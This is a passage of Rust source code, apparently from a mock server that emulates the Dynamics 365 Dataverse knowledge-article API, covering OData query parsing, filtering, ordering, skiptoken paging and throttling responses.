        knobs.throttle_left = knobs.throttle_left.saturating_sub(1);
        before
    };
    if knobs.throttle_left > 0 {
        return Err(throttled(knobs.limit, knobs.throttle_retry_after));
    }
    let policy = [Policy::rolling(
        LIMIT_POLICY,
        knobs.limit,
        Duration::from_secs(WINDOW_SECS),
    )];
    let key = format!("dynamics365.kb:{env}:{user}");
    match state.with_limiter(|limiter| limiter.acquire(&key, &policy, Instant::now())) {
        Verdict::Allowed { usage } => Ok(usage.first().map_or(0, |u| u.remaining)),
        Verdict::Denied { retry_after, .. } => {
            let secs = retry_after.as_secs() + u64::from(retry_after.subsec_nanos() > 0);
            Err(throttled(knobs.limit, secs))
        }
    }
}

/// Dataverse's 429 for the request-count limit.
fn throttled(limit: u64, retry_after: u64) -> Response {
    let response = web_api_error(
        StatusCode::TOO_MANY_REQUESTS,
        TOO_MANY_REQUESTS_CODE,
        &format!(
            "Number of requests exceeded the limit of {limit} over time window of {WINDOW_SECS} seconds."
        ),
    );
    wire::with_retry_after(response, retry_after.max(1))
}

pub(crate) fn syntax_error(message: &str) -> Response {
    web_api_error(StatusCode::BAD_REQUEST, SYNTAX_CODE, message)
}

pub(crate) fn unknown_property(name: &str, type_name: &str) -> Response {
    web_api_error(
        StatusCode::BAD_REQUEST,
        "0x0",
        &format!(
            "Could not find a property named '{name}' on type 'Microsoft.Dynamics.CRM.{type_name}'."
        ),
    )
}

pub(crate) fn record_missing(type_name: &str, id: &str) -> Response {
    web_api_error(
        StatusCode::NOT_FOUND,
        "0x80040217",
        &format!("{type_name} With Id = {id} Does Not Exist"),
    )
}

/// The route's answer, built under the store's lock.
fn answer(
    route: KbRoute,
    state: &SandboxState,
    req: &ProviderRequest,
) -> Result<Response, Response> {
    let Some((prefix, segment)) = split_path(&req.path) else {
        return Err(super::dynamics365::not_found());
    };
    let query = Query::parse(req)?;
    let prefer = Prefer::parse(&req.headers);
    let store = state.dynamics_kb_store();
    let empty;
    let kb = match store.envs.get(&req.host) {
        Some(kb) => kb,
        None => {
            empty = KbEnv::empty(0);
            &empty
        }
    };
    let ctx = Ctx {
        base: format!("https://{}{prefix}", req.host),
        query: &query,
        prefer: &prefer,
        kb,
    };
    match route {
        KbRoute::Articles => {
            let rows: Vec<&DynKbArticle> = kb.articles.values().collect();
            ctx.list(&ARTICLE_SET, rows, "knowledgearticles")
        }
        KbRoute::Languages => {
            let rows: Vec<&DynKbLanguage> = kb.languages.iter().collect();
            ctx.list(&LANGUAGE_SET, rows, "languagelocale")
        }
        KbRoute::Article => {
            let raw = segment
                .strip_prefix("knowledgearticles(")
                .and_then(|s| s.strip_suffix(')'))
                .unwrap_or_default();
            let raw = raw.strip_prefix("knowledgearticleid=").unwrap_or(raw);
            if !is_guid(raw) {
                return Err(syntax_error("Bad Request - Error in query syntax."));
            }
            let id = raw.to_ascii_lowercase();
            let select = ctx.select(&ARTICLE_SET, query.get("$select"))?;
            let expand = ctx.expand(query.get("$expand"))?;
            let article = kb
                .articles
                .get(&id)
                .ok_or_else(|| record_missing("knowledgearticle", &id))?;
            let mut body = ctx.row_json(&ARTICLE_SET, article, select.as_deref());
            ctx.add_expansions(&mut body, article, &expand);
            let mut object = Map::new();
            object.insert(
                "@odata.context".to_owned(),
                json!(format!(
                    "{}/$metadata#knowledgearticles{}/$entity",
                    ctx.base,
                    context_suffix(select.as_deref(), &expand)
                )),
            );
            object.extend(body);
            Ok(ctx.respond(Value::Object(object), None))
        }
    }
}

// ---------------------------------------------------------------------------------------
// Entity sets and values
// ---------------------------------------------------------------------------------------

/// A property's EDM type.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    Guid,
    Text,
    Int,
    Bool,
    Date,
}

impl Kind {
    pub(crate) fn edm(self) -> &'static str {
        match self {
            Kind::Guid => "Edm.Guid",
            Kind::Text => "Edm.String",
            Kind::Int => "Edm.Int32",
            Kind::Bool => "Edm.Boolean",
            Kind::Date => "Edm.DateTimeOffset",
        }
    }
}

/// An entity set's name, type and properties.
struct SetSpec {
    type_name: &'static str,
    key: &'static str,
    props: &'static [(&'static str, Kind)],
}

impl SetSpec {
    fn kind(&self, prop: &str) -> Option<Kind> {
        self.props.iter().find(|(p, _)| *p == prop).map(|(_, k)| *k)
    }
}

/// What `$filter` and `$orderby` need to know of an entity type (shared with
/// [`super::dynamics365_crm`], whose columns include custom ones).
pub(crate) trait Schema {
    /// The EDM kind of a property, `None` when the type has no such property.
    fn kind(&self, prop: &str) -> Option<Kind>;
    /// The entity type's logical name, e.g. `knowledgearticle`.
    fn type_name(&self) -> &str;
}

impl Schema for SetSpec {
    fn kind(&self, prop: &str) -> Option<Kind> {
        SetSpec::kind(self, prop)
    }

    fn type_name(&self) -> &str {
        self.type_name
    }
}

const ARTICLE_SET: SetSpec = SetSpec {
    type_name: "knowledgearticle",
    key: "knowledgearticleid",
    props: &[
        ("knowledgearticleid", Kind::Guid),
        ("title", Kind::Text),
        ("content", Kind::Text),
        ("description", Kind::Text),
        ("keywords", Kind::Text),
        ("articlepublicnumber", Kind::Text),
        ("statecode", Kind::Int),
        ("statuscode", Kind::Int),
        ("isrootarticle", Kind::Bool),
        ("islatestversion", Kind::Bool),
        ("isprimary", Kind::Bool),
        ("isinternal", Kind::Bool),
        ("majorversionnumber", Kind::Int),
        ("minorversionnumber", Kind::Int),
        ("_languagelocaleid_value", Kind::Guid),
        ("_parentarticlecontentid_value", Kind::Guid),
        ("_rootarticleid_value", Kind::Guid),
        ("_previousarticlecontentid_value", Kind::Guid),
        ("_ownerid_value", Kind::Guid),
        ("_createdby_value", Kind::Guid),
        ("_modifiedby_value", Kind::Guid),
        ("createdon", Kind::Date),
        ("modifiedon", Kind::Date),
        ("publishon", Kind::Date),
        ("expirationdate", Kind::Date),
        ("knowledgearticleviews", Kind::Int),
        ("versionnumber", Kind::Int),
    ],
};

const LANGUAGE_SET: SetSpec = SetSpec {
    type_name: "languagelocale",
    key: "languagelocaleid",
    props: &[
        ("languagelocaleid", Kind::Guid),
        ("code", Kind::Text),
        ("language", Kind::Text),
        ("region", Kind::Text),
        ("name", Kind::Text),
        ("localeid", Kind::Int),
        ("statecode", Kind::Int),
        ("statuscode", Kind::Int),
        ("versionnumber", Kind::Int),
    ],
};

/// Navigation properties `$expand` knows: name → (lookup property, target set).
const NAVIGATION: [(&str, &str, bool); 4] = [
    ("languagelocaleid", "_languagelocaleid_value", true),
    ("rootarticleid", "_rootarticleid_value", false),
    (
        "parentarticlecontentid",
        "_parentarticlecontentid_value",
        false,
    ),
    (
        "previousarticlecontentid",
        "_previousarticlecontentid_value",
        false,
    ),
];

/// A property value of a row.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Val<'a> {
    Null,
    Int(i64),
    Bool(bool),
    Text(&'a str),
    /// Epoch milliseconds.
    Date(i64),
    Guid(&'a str),
}

impl Val<'_> {
    pub(crate) fn to_json(self) -> Value {
        match self {
            Val::Null => Value::Null,
            Val::Int(n) => json!(n),
            Val::Bool(b) => json!(b),
            Val::Text(s) | Val::Guid(s) => json!(s),
            Val::Date(ms) => json!(iso(ms.div_euclid(1000))),
        }
    }

    pub(crate) fn sort_key(self) -> SortVal {
        match self {
            Val::Null => SortVal::Null,
            Val::Int(n) | Val::Date(n) => SortVal::Int(n),
            Val::Bool(b) => SortVal::Int(i64::from(b)),
            Val::Text(s) | Val::Guid(s) => SortVal::Text(s.to_lowercase()),
        }
    }
}

/// A row of an entity set.
pub(crate) trait Row {
    fn get(&self, prop: &str) -> Val<'_>;
    fn id(&self) -> &str;
}

fn opt<'a>(value: Option<&'a String>, f: fn(&'a str) -> Val<'a>) -> Val<'a> {
    value.map_or(Val::Null, |s| f(s.as_str()))
}

impl Row for DynKbArticle {
    fn get(&self, prop: &str) -> Val<'_> {
        match prop {
            "knowledgearticleid" => Val::Guid(&self.id),
            "title" => Val::Text(&self.title),
            "content" => opt(self.content.as_ref(), Val::Text),
            "description" => opt(self.description.as_ref(), Val::Text),
            "keywords" => opt(self.keywords.as_ref(), Val::Text),
            "articlepublicnumber" => Val::Text(&self.article_public_number),
            "statecode" => Val::Int(self.state_code),
            "statuscode" => Val::Int(self.status_code),
            "isrootarticle" => Val::Bool(self.is_root_article),
            "islatestversion" => Val::Bool(self.is_latest_version),
            "isprimary" => Val::Bool(self.is_primary),
            "isinternal" => Val::Bool(self.is_internal),
            "majorversionnumber" => Val::Int(self.major_version),
            "minorversionnumber" => Val::Int(self.minor_version),
            "_languagelocaleid_value" => opt(self.language_locale_id.as_ref(), Val::Guid),
            "_parentarticlecontentid_value" => {
                opt(self.parent_article_content_id.as_ref(), Val::Guid)
            }
            "_rootarticleid_value" => opt(self.root_article_id.as_ref(), Val::Guid),
            "_previousarticlecontentid_value" => {
                opt(self.previous_article_content_id.as_ref(), Val::Guid)
            }
            "_ownerid_value" | "_createdby_value" | "_modifiedby_value" => Val::Guid(OWNER_ID),
            "createdon" => Val::Date(self.created_on * 1000),
            "modifiedon" => Val::Date(self.modified_on * 1000),
            "publishon" => self.publish_on.map_or(Val::Null, |t| Val::Date(t * 1000)),
            "knowledgearticleviews" => Val::Int(self.views),
            "versionnumber" => Val::Int(self.version_number),
            _ => Val::Null,
        }
    }

    fn id(&self) -> &str {
        &self.id
    }
}

impl Row for DynKbLanguage {
    fn get(&self, prop: &str) -> Val<'_> {
        match prop {
            "languagelocaleid" => Val::Guid(&self.id),
            "code" => Val::Text(&self.code),
            "language" => Val::Text(&self.language),
            "region" => Val::Text(&self.region),
            "name" => Val::Text(&self.name),
            "localeid" => Val::Int(self.locale_id),
            "statecode" => Val::Int(if self.active { 0 } else { 1 }),
            "statuscode" => Val::Int(if self.active { 1 } else { 2 }),
            "versionnumber" => Val::Int(1_000 + self.locale_id),
            _ => Val::Null,
        }
    }

    fn id(&self) -> &str {
        &self.id
    }
}

/// Labels of `statecode`/`statuscode` values (Microsoft's table).
fn state_label(code: i64) -> &'static str {
    match code {
        0 => "Draft",
        1 => "Approved",
        2 => "Scheduled",
        3 => "Published",
        4 => "Expired",
        5 => "Archived",
        6 => "Discarded",
        _ => "",
    }
}

fn status_label(code: i64) -> &'static str {
    match code {
        1 => "Proposed",
        2 => "Draft",
        3 | 8 => "Needs review",
        4 => "In review",
        5 => "Approved",
        6 => "Scheduled",
        7 => "Published",
        9 => "Updating",
        10 => "Expired",
        11 | 14 => "Rejected",
        12 => "Archived",
        13 => "Discarded",
        _ => "",
    }
}

// ---------------------------------------------------------------------------------------
// Query options
// ---------------------------------------------------------------------------------------

/// The request's query options (decoded), `$`-options checked against the supported set.
pub(crate) struct Query {
    pub(crate) pairs: Vec<(String, String)>,
}

const SUPPORTED_OPTIONS: [&str; 7] = [
    "$select",
    "$filter",
    "$orderby",
    "$top",
    "$count",
    "$expand",
    "$skiptoken",
];

impl Query {
    fn parse(req: &ProviderRequest) -> Result<Self, Response> {
        Self::parse_with(req, &SUPPORTED_OPTIONS)
    }

    /// The query options, `$`-options checked against `supported`.
    pub(crate) fn parse_with(req: &ProviderRequest, supported: &[&str]) -> Result<Self, Response> {
        let pairs: Vec<(String, String)> = req
            .query
            .as_deref()
            .map(|q| {
                url::form_urlencoded::parse(q.as_bytes())
                    .map(|(k, v)| (k.into_owned(), v.into_owned()))
                    .collect()
            })
            .unwrap_or_default();
        for (key, _) in &pairs {
            if key.starts_with('$') && !supported.contains(&key.as_str()) {
                return Err(syntax_error(&format!(
                    "The query parameter '{key}' is not supported."
                )));
            }
        }
        for option in supported {
            if pairs.iter().filter(|(k, _)| k == option).count() > 1 {
                return Err(syntax_error(&format!(
                    "Query option '{option}' was specified more than once, but it must be specified at most once."
                )));
            }
        }
        Ok(Self { pairs })
    }

    pub(crate) fn get(&self, key: &str) -> Option<&str> {
        self.pairs
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.as_str())
    }
}

/// What the `Prefer` headers ask for.
#[derive(Default)]
struct Prefer {
    max_page_size: Option<usize>,
    annotations: Option<String>,
}

impl Prefer {
    fn parse(headers: &axum::http::HeaderMap) -> Self {
        let mut prefer = Prefer::default();
        for value in headers.get_all("prefer") {
            let Ok(text) = value.to_str() else { continue };
            for item in split_outside_quotes(text, ',') {
                let Some((name, raw)) = item.split_once('=') else {
                    continue;
                };
                let raw = raw.trim().trim_matches('"');
                match name.trim().to_ascii_lowercase().as_str() {
                    "odata.maxpagesize" => {
                        prefer.max_page_size = raw
                            .parse::<usize>()
                            .ok()
                            .filter(|n| (1..=MAX_PAGE_SIZE).contains(n));
                    }
                    "odata.include-annotations" => prefer.annotations = Some(raw.to_owned()),
                    _ => {}
                }
            }
        }
        prefer
    }

    fn wants(&self, annotation: &str) -> bool {
        self.annotations.as_deref().is_some_and(|list| {
            list.split(',').any(|a| {
                let a = a.trim();
                a == "*"
                    || a == annotation
                    || a.strip_suffix(".*")
                        .is_some_and(|p| annotation.starts_with(p))
            })
        })
    }
}

/// Splits at `sep` outside double quotes and parentheses.
pub(crate) fn split_outside_quotes(text: &str, sep: char) -> Vec<&str> {
    let mut parts = Vec::new();
    let (mut depth, mut quoted, mut start) = (0i32, false, 0usize);
    for (i, c) in text.char_indices() {
        match c {
            '"' => quoted = !quoted,
            '(' if !quoted => depth += 1,
            ')' if !quoted => depth -= 1,
            c if c == sep && !quoted && depth == 0 => {
                parts.push(text[start..i].trim());
                start = i + c.len_utf8();
            }
            _ => {}
        }
    }
    parts.push(text[start..].trim());
    parts.into_iter().filter(|p| !p.is_empty()).collect()
}

/// One `$expand` item: the navigation property, its lookup, whether it targets
/// `languagelocale`, and its `$select`.
struct Expansion {
    nav: &'static str,
    lookup: &'static str,
    language: bool,
    select: Option<Vec<String>>,
}

/// A request's view of an environment.
struct Ctx<'a> {
    base: String,
    query: &'a Query,
    prefer: &'a Prefer,
    kb: &'a KbEnv,
}

impl Ctx<'_> {
    /// `$select` checked against `spec`; `None` selects every property.
    fn select(&self, spec: &SetSpec, raw: Option<&str>) -> Result<Option<Vec<String>>, Response> {
        let Some(raw) = raw else { return Ok(None) };
        let mut props = Vec::new();
        for name in raw.split(',').map(str::trim) {
            if name.is_empty() {
                return Err(syntax_error(&format!(
                    "Syntax error at position {} in '{raw}'.",
                    raw.len()
                )));
            }
            if spec.kind(name).is_none() {
                return Err(unknown_property(name, spec.type_name));
            }
            if !props.iter().any(|p| p == name) {
                props.push(name.to_owned());
            }
        }
        Ok(Some(props))
    }

    /// `$expand` of `knowledgearticles`.
    fn expand(&self, raw: Option<&str>) -> Result<Vec<Expansion>, Response> {
        let Some(raw) = raw else {
            return Ok(Vec::new());
        };
        let mut out = Vec::new();
        for item in split_outside_quotes(raw, ',') {
            let (name, options) = match item.split_once('(') {
                Some((name, rest)) => {
                    let inner = rest.strip_suffix(')').ok_or_else(|| {
                        syntax_error(&format!(
                            "Syntax error at position {} in '{raw}'.",
                            raw.len()
                        ))
                    })?;
                    (name.trim(), Some(inner))
                }
                None => (item, None),
            };
            let Some((nav, lookup, language)) =
                NAVIGATION.iter().copied().find(|(n, _, _)| *n == name)
            else {
                return Err(unknown_property(name, ARTICLE_SET.type_name));
            };
            let target = if language {
                &LANGUAGE_SET
            } else {
                &ARTICLE_SET
            };
            let mut select = None;
            if let Some(options) = options {
                for option in split_outside_quotes(options, ';') {
                    match option.split_once('=') {
                        Some(("$select", list)) => select = self.select(target, Some(list))?,
                        _ => {
                            return Err(syntax_error(&format!(
                                "The query option '{option}' is not supported inside $expand here."
                            )));
                        }
                    }
                }
            }
            out.push(Expansion {
                nav,
                lookup,
                language,
                select,
            });
        }
        Ok(out)
    }

    /// A row as JSON: etag, the selected (or every) property, the key, annotations.
    fn row_json<R: Row>(
        &self,
        spec: &SetSpec,
        row: &R,
        select: Option<&[String]>,
    ) -> Map<String, Value> {
        let mut object = Map::new();
        object.insert(
            "@odata.etag".to_owned(),
            json!(format!("W/\"{}\"", row.get("versionnumber").to_json())),
        );
        let formatted = self.prefer.wants(FORMATTED);
        let lookup_names = self.prefer.wants(LOOKUP_NAME);
        let all: Vec<&str> = spec.props.iter().map(|(p, _)| *p).collect();
        let chosen: Vec<&str> = match select {
            Some(list) => list.iter().map(String::as_str).collect(),
            None => all,
        };
        for prop in chosen {
            let value = row.get(prop);
            if formatted
                && !matches!(value, Val::Null)
                && let Some(label) = self.formatted(spec, prop, value)
            {
                object.insert(format!("{prop}@{FORMATTED}"), json!(label));
            }
            if lookup_names && prop.starts_with('_') && !matches!(value, Val::Null) {
                let target = if prop == "_languagelocaleid_value" {
                    "languagelocale"
                } else if prop.ends_with("by_value") || prop == "_ownerid_value" {
                    "systemuser"
                } else {
                    "knowledgearticle"
                };
                object.insert(format!("{prop}@{LOOKUP_NAME}"), json!(target));
            }
            object.insert(prop.to_owned(), value.to_json());
        }
        object
            .entry(spec.key.to_owned())
            .or_insert_with(|| json!(row.id()));
        object
    }

    fn formatted(&self, spec: &SetSpec, prop: &str, value: Val<'_>) -> Option<String> {
        let article = spec.type_name == "knowledgearticle";
        match (prop, value) {
            ("statecode", Val::Int(n)) if article => Some(state_label(n).to_owned()),
            ("statuscode", Val::Int(n)) if article => Some(status_label(n).to_owned()),
            ("statecode", Val::Int(n)) => {
                Some(if n == 0 { "Active" } else { "Inactive" }.to_owned())
            }
            ("statuscode", Val::Int(n)) => {
                Some(if n == 1 { "Active" } else { "Inactive" }.to_owned())
            }
            (_, Val::Bool(b)) => Some(if b { "Yes" } else { "No" }.to_owned()),
            ("_languagelocaleid_value", Val::Guid(id)) => self
                .kb
                .languages
                .iter()
                .find(|l| l.id == id)
                .map(|l| l.name.clone()),
            _ => None,
        }
    }

    fn add_expansions(
        &self,
        object: &mut Map<String, Value>,
        article: &DynKbArticle,
        expand: &[Expansion],
    ) {
        for e in expand {
            let target = match article.get(e.lookup) {
                Val::Guid(id) => {
                    if e.language {
                        self.kb.languages.iter().find(|l| l.id == id).map(|l| {
                            Value::Object(self.row_json(&LANGUAGE_SET, l, e.select.as_deref()))
                        })
                    } else {
                        self.kb.articles.get(id).map(|a| {
                            Value::Object(self.row_json(&ARTICLE_SET, a, e.select.as_deref()))
                        })
                    }
                }
                _ => None,
            };
            object.insert(e.nav.to_owned(), target.unwrap_or(Value::Null));
        }
    }

    /// A JSON answer with the preferences that were applied.
    fn respond(&self, body: Value, page_size: Option<usize>) -> Response {
        let mut response = wire::json(StatusCode::OK, body);
        let mut applied = Vec::new();
        if let Some(n) = page_size {
            applied.push(format!("odata.maxpagesize={n}"));
        }
        if let Some(list) = &self.prefer.annotations {
            applied.push(format!("odata.include-annotations=\"{list}\""));
        }
        let headers = response.headers_mut();
        if !applied.is_empty()
            && let Ok(value) = HeaderValue::from_str(&applied.join(","))
        {
            headers.insert("preference-applied", value);
        }
        headers.insert(
            CONTENT_TYPE,
            HeaderValue::from_static("application/json; odata.metadata=minimal"),
        );
        response
    }

    /// A list: filter, order, page.
    fn list<R: Row>(&self, spec: &SetSpec, rows: Vec<&R>, set: &str) -> Result<Response, Response> {
        let select = self.select(spec, self.query.get("$select"))?;
        let expand = if spec.type_name == "knowledgearticle" {
            self.expand(self.query.get("$expand"))?
        } else if let Some(raw) = self.query.get("$expand") {
            let name = raw.split(['(', ',']).next().unwrap_or(raw).trim();
            return Err(unknown_property(name, spec.type_name));
        } else {
            Vec::new()
        };
        let filter_raw = self.query.get("$filter").unwrap_or("");
        let filter = if filter_raw.trim().is_empty() {
            None
        } else {
            Some(parse_filter(filter_raw, spec)?)
        };
        let orderby_raw = self.query.get("$orderby").unwrap_or("");
        let order = parse_orderby(orderby_raw, spec)?;
        let top = match self.query.get("$top") {
            None => None,
            Some(raw) => match raw.trim().parse::<i64>() {
                Ok(n) if n >= 0 => Some(
                    usize::try_from(n)
                        .unwrap_or(MAX_PAGE_SIZE)
                        .min(MAX_PAGE_SIZE),
                ),
                _ => {
                    return Err(syntax_error(&format!(
                        "Invalid value '{raw}' for $top query option found. The $top query option requires a non-negative integer value."
                    )));
                }
            },
        };
        let count = match self.query.get("$count") {
            None | Some("false") => false,
            Some("true") => true,
            Some(raw) => {
                return Err(syntax_error(&format!(
                    "'{raw}' is not a valid count option."
                )));
            }
        };
        if count && top.is_some() {
            return Err(syntax_error(
                "The $top query option cannot be used with $count.",
            ));
        }
        let fingerprint = fingerprint(&[set, filter_raw, orderby_raw]);
        let after = match self.query.get("$skiptoken") {
            None => None,
            Some(raw) => Some(decode_skiptoken(raw, &fingerprint).ok_or_else(|| {
                syntax_error("The $skiptoken query option is not valid for this query.")
            })?),
        };

        let mut keyed: Vec<(Vec<SortVal>, &R)> = rows
            .into_iter()
            .filter(|row| filter.as_ref().is_none_or(|f| f.eval(*row)))
            .map(|row| {
                (
                    order.iter().map(|(p, _)| row.get(p).sort_key()).collect(),
                    row,
                )
            })
            .collect();
        let total = keyed.len();
        keyed.sort_by(|a, b| compare(&order, &a.0, a.1.id(), &b.0, b.1.id()));
        let start = match &after {
            None => 0,
            Some(token) => keyed.partition_point(|(key, row)| {
                compare(&order, key, row.id(), &token.key, &token.id) != Ordering::Greater
            }),
        };
        let (page_size, applied) = match (top, self.prefer.max_page_size) {
            (Some(top), _) => (top, None),
            (None, Some(n)) => (n, Some(n)),
            (None, None) => (MAX_PAGE_SIZE, None),
        };
        let end = (start + page_size).min(keyed.len());
        let page = &keyed[start.min(end)..end];
        let mut value = Vec::with_capacity(page.len());
        for (_, row) in page {
            let mut object = self.row_json(spec, *row, select.as_deref());
            if !expand.is_empty()
                && let Some(article) = self.kb.articles.get(row.id())
            {
                self.add_expansions(&mut object, article, &expand);
            }
            value.push(Value::Object(object));
        }
        let mut body = Map::new();
        body.insert(
            "@odata.context".to_owned(),
            json!(format!(
                "{}/$metadata#{set}{}",
                self.base,
                context_suffix(select.as_deref(), &expand)
            )),
        );
        if count {
            body.insert("@odata.count".to_owned(), json!(total.min(COUNT_LIMIT)));
        }
        body.insert("value".to_owned(), Value::Array(value));
        if top.is_none()
            && end < keyed.len()
            && let Some((key, row)) = page.last()
        {
            let page_number = after.as_ref().map_or(1, |t| t.page) + 1;
            let token = encode_skiptoken(page_number, key, row.id(), &fingerprint);
            body.insert(
                "@odata.nextLink".to_owned(),
                json!(self.next_link(set, &token)),
            );
        }
        Ok(self.respond(Value::Object(body), applied))
    }

    fn next_link(&self, set: &str, skiptoken: &str) -> String {
        let mut pairs: Vec<String> = self
            .query
            .pairs
            .iter()
            .filter(|(k, _)| k != "$skiptoken")
            .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
            .collect();
        pairs.push(format!("$skiptoken={}", encode(skiptoken)));
        format!("{}/{set}?{}", self.base, pairs.join("&"))
    }
}

/// `(title,modifiedon,languagelocaleid(code))` for `@odata.context`.
fn context_suffix(select: Option<&[String]>, expand: &[Expansion]) -> String {
    let mut parts: Vec<String> = select.map(<[String]>::to_vec).unwrap_or_default();
    for e in expand {
        match &e.select {
            Some(list) => parts.push(format!("{}({})", e.nav, list.join(","))),
            None => parts.push(format!("{}()", e.nav)),
        }
    }
    if parts.is_empty() {
        String::new()
    } else {
        format!("({})", parts.join(","))
    }
}

/// Percent-encodes a query key or value, keeping what OData links show plainly.
pub(crate) fn encode(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    for b in raw.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~$,():'*".contains(&b) {
            out.push(char::from(b));
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

// ---------------------------------------------------------------------------------------
// Ordering and paging
// ---------------------------------------------------------------------------------------

/// A sortable value (also what a skiptoken remembers).
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub(crate) enum SortVal {
    Null,
    Int(i64),
    Text(String),
}

/// `$orderby` as `(property, descending)`; empty for the key order.
pub(crate) fn parse_orderby(raw: &str, spec: &dyn Schema) -> Result<Vec<(String, bool)>, Response> {
    let mut order = Vec::new();
    for item in raw.split(',').map(str::trim).filter(|s| !s.is_empty()) {
        let mut words = item.split_whitespace();
        let prop = words.next().unwrap_or_default();
        let desc = match words.next().map(str::to_ascii_lowercase).as_deref() {
            None | Some("asc") => false,
            Some("desc") => true,
            Some(_) => {
                return Err(syntax_error(&format!(
                    "Syntax error at position {} in '{raw}'.",
                    raw.len()
                )));
            }
        };
        if words.next().is_some() {
            return Err(syntax_error(&format!(
                "Syntax error at position {} in '{raw}'.",
                raw.len()
            )));
        }
        if spec.kind(prop).is_none() {
            return Err(unknown_property(prop, spec.type_name()));
        }
        order.push((prop.to_owned(), desc));
    }
    Ok(order)
}

/// Orders two rows by the `$orderby` keys, then by id ascending.
pub(crate) fn compare(
    order: &[(String, bool)],
    ka: &[SortVal],
    ida: &str,
    kb: &[SortVal],
    idb: &str,
) -> Ordering {
    for (i, (_, desc)) in order.iter().enumerate() {
        let by = ka.get(i).cmp(&kb.get(i));
        let by = if *desc { by.reverse() } else { by };
        if by != Ordering::Equal {
            return by;
        }
    }
    ida.cmp(idb)
}

/// Where a page ended.
pub(crate) struct SkipToken {
    pub(crate) page: u64,
    pub(crate) key: Vec<SortVal>,
    pub(crate) id: String,
}

/// FNV-1a over the parts.
fn fnv(parts: &[&str]) -> u64 {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for part in parts {
        for b in part.bytes().chain(std::iter::once(0)) {
            hash ^= u64::from(b);
            hash = hash.wrapping_mul(0x0100_0000_01b3);
        }
    }
    hash
}

/// Binds a skiptoken to the query it came from.
pub(crate) fn fingerprint(parts: &[&str]) -> String {
    format!("{:016x}", fnv(parts))
}

pub(crate) fn encode_skiptoken(page: u64, key: &[SortVal], id: &str, fingerprint: &str) -> String {
    let inner = json!({"k": key, "id": id, "q": fingerprint, "p": page}).to_string();
    format!(
        "<cookie pagenumber=\"{page}\" pagingcookie=\"{}\" istracking=\"False\" />",
        URL_SAFE_NO_PAD.encode(inner)
    )
}

pub(crate) fn decode_skiptoken(raw: &str, fingerprint: &str) -> Option<SkipToken> {
    let start = raw.find("pagingcookie=\"")? + "pagingcookie=\"".len();
    let rest = &raw[start..];
    let cookie = &rest[..rest.find('"')?];
    let bytes = URL_SAFE_NO_PAD.decode(cookie).ok()?;
    let value: Value = serde_json::from_slice(&bytes).ok()?;
    if value.get("q")?.as_str()? != fingerprint {
        return None;
    }
    Some(SkipToken {
        page: value.get("p")?.as_u64()?,
        key: serde_json::from_value(value.get("k")?.clone()).ok()?,
        id: value.get("id")?.as_str()?.to_owned(),
    })
}

// ---------------------------------------------------------------------------------------
// $filter
// ---------------------------------------------------------------------------------------

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Op {
    Eq,
    Ne,
    Gt,
    Ge,
    Lt,
    Le,
}

impl Op {
    fn parse(word: &str) -> Option<Self> {
        Some(match word {
            "eq" => Op::Eq,
            "ne" => Op::Ne,
            "gt" => Op::Gt,
            "ge" => Op::Ge,
            "lt" => Op::Lt,
            "le" => Op::Le,
            _ => return None,
        })
    }

    fn kind_name(self) -> &'static str {
        match self {
            Op::Eq => "Equal",
            Op::Ne => "NotEqual",
            Op::Gt => "GreaterThan",
            Op::Ge => "GreaterThanOrEqual",
            Op::Lt => "LessThan",
            Op::Le => "LessThanOrEqual",
        }
    }
}

#[derive(Clone, Debug, PartialEq)]
pub(crate) enum Lit {
    Null,
    Int(i64),
    Bool(bool),
    Text(String),
    /// Epoch milliseconds.
    Date(i64),
    Guid(String),
}

impl Lit {
    fn edm(&self) -> &'static str {
        match self {
            Lit::Null => "null",
            Lit::Int(_) => "Edm.Int32",
            Lit::Bool(_) => "Edm.Boolean",
            Lit::Text(_) => "Edm.String",
            Lit::Date(_) => "Edm.DateTimeOffset",
            Lit::Guid(_) => "Edm.Guid",
        }
    }

    fn fits(&self, kind: Kind) -> bool {
        matches!(
            (self, kind),
            (Lit::Null, _)
                | (Lit::Int(_), Kind::Int)
                | (Lit::Bool(_), Kind::Bool)
                | (Lit::Text(_), Kind::Text)
                | (Lit::Date(_), Kind::Date)
                | (Lit::Guid(_), Kind::Guid)
        )
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum TextFn {
    Contains,
    StartsWith,
    EndsWith,
}

#[derive(Debug)]
pub(crate) enum Expr {
    And(Box<Expr>, Box<Expr>),
    Or(Box<Expr>, Box<Expr>),
    Not(Box<Expr>),
    Cmp(String, Op, Lit),
    Text(TextFn, String, String),
}

impl Expr {
    pub(crate) fn eval<R: Row>(&self, row: &R) -> bool {
        match self {
            Expr::And(a, b) => a.eval(row) && b.eval(row),
            Expr::Or(a, b) => a.eval(row) || b.eval(row),
            Expr::Not(a) => !a.eval(row),
            Expr::Cmp(prop, op, lit) => compare_value(row.get(prop), *op, lit),
            Expr::Text(f, prop, needle) => match row.get(prop) {
                Val::Text(s) => {
                    let (s, needle) = (s.to_lowercase(), needle.to_lowercase());
                    match f {
                        TextFn::Contains => s.contains(&needle),
                        TextFn::StartsWith => s.starts_with(&needle),
                        TextFn::EndsWith => s.ends_with(&needle),
                    }
                }
                _ => false,
            },
        }
    }
}

fn compare_value(value: Val<'_>, op: Op, lit: &Lit) -> bool {
    let ordering = match (value, lit) {
        (Val::Null, Lit::Null) => Some(Ordering::Equal),
        (_, Lit::Null) | (Val::Null, _) => None,
        (Val::Int(a), Lit::Int(b)) => Some(a.cmp(b)),
        (Val::Bool(a), Lit::Bool(b)) => Some(a.cmp(b)),
        (Val::Date(a), Lit::Date(b)) => Some(a.cmp(b)),
        (Val::Text(a), Lit::Text(b)) => Some(a.to_lowercase().cmp(&b.to_lowercase())),
        (Val::Guid(a), Lit::Guid(b)) => Some(a.to_ascii_lowercase().cmp(&b.to_ascii_lowercase())),
        _ => None,
    };
    match (op, ordering) {
